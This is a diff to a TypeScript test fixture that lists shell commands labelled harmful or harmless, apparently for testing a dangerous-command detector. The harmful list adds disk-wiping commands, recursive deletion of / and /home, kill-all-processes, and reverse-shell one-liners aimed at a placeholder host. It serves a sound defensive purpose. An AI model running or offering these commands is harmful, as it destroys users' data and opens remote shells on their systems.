@@ -30,7 +30,6 @@ export const OTHER_HARM: readonly string[] = lines(`
   su-exec root id
   s6-setuidgid x id
   sudo-rs id
-  please id
   dzdo id
   pfexec id
   sg root id
@@ -38,11 +37,19 @@ export const OTHER_HARM: readonly string[] = lines(`
   setpriv --reuid 0 id
   setpriv --reuid=root id
   systemd-run --uid=0 id
+  sgdisk -Z -p /dev/sda
+  sgdisk -p -l backup /dev/sda
+  sfdisk -l --delete /dev/sda
+  parted -s /dev/sda mklabel gpt print
+  parted -s /dev/sda print rm 1
+  nvme write-zeroes /dev/nvme0n1
+  wipe /
   trash /
   trash-put ~
   gio trash /
   gio remove /etc
   rsync -r --remove-source-files /etc/ x
+  rsync -r --remove-source-files --delete empty/ /
   git -C / clean -fdx
   git --work-tree=/ clean -fdx
   git --work-tree=/ checkout -f
@@ -52,6 +59,7 @@ export const OTHER_HARM: readonly string[] = lines(`
   perl -MFile::Path=remove_tree -e 'remove_tree("/etc")'
   python3 -c 'from shutil import rmtree as r;r("/")'
   python3 -c 'import shutil;p="/";shutil.rmtree(p)'
+  python3 -c 'import shutil;base="/home";path="x";shutil.rmtree(base, True)'
   node -e 'let p="/";fs.rmSync(p,{recursive:true,force:true})'
   emacs --batch --eval '(delete-directory "/" t)'
   Rscript -e 'unlink("/",recursive=TRUE)'
@@ -70,6 +78,8 @@ export const OTHER_HARM: readonly string[] = lines(`
   perl -e 'use Socket;socket(S,2,1,6);connect(S,sockaddr_in(1,inet_aton("h")));open(STDIN,">&S");exec("sh -i")'
   ruby -rsocket -e 'exec "sh -i <&3 >&3" if f=TCPSocket.new("h",1)'
   php -r '$s=fsockopen("h",1);exec("sh <&3 >&3");'
+  ruby -rsocket -e 's=TCPSocket.new("h",1); system("sh -i 0>&3 1>&3 2>&3")'
+  python3 -c 'import os;os.kill( -1 , 9)'
   awk 'BEGIN{s="/inet/tcp/0/h/1";while((s|&getline c)>0){while((c|getline)>0)print|&s}}'
 `);
 
@@ -79,6 +89,21 @@ export const NO_HARM: readonly string[] = lines(`
   sfdisk -d /dev/sda
   fdisk -l /dev/sda
   parted /dev/sda print
+  parted -s -m /dev/sda unit MB print free
+  sgdisk -i 1 -p /dev/sda
+  sgdisk --backup=x /dev/sda
+  gdisk -l /dev/sda
+  fdisk -l -o Device,Size /dev/sda
+  cryptsetup luksFormat disk.img
+  ./bench.sh nvme write 4k
+  badblocks -w disk.img
+  please id
+  claude -p "please fix the tests"
+  gh pr comment 3 -b "please merge this"
+  tmux display-message "please wait"
+  bd create "trash / cleanup page"
+  bd create "wipe / reset the cache"
+  rsync -r --remove-source-files --delete a/ b
   parted -l
   cryptsetup status x
   badblocks /dev/sda
@@ -117,6 +142,10 @@ export const NO_HARM: readonly string[] = lines(`
   fuser x
   perl -e 'kill 9, 123'
   python3 -c 'import os;os.kill(123,9)'
+  python3 -c "import subprocess; subprocess.run('kill -1 1234', shell=True)"
+  python3 -c "import shutil; p = '/'; path = 'build'; shutil.rmtree(path)"
+  python3 -c "import shutil; base = '/home'; shutil.rmtree(base + '/me/app/build')"
+  python3 -c 'import socket,os;s=socket.socket();s.connect(("h",1));os.system("npm test 2>&1")'
   echo ls | sh
   cat list | nc h 1
   python3 -c 'import socket;s=socket.socket();s.connect(("h",1));print(s.recv(9))'
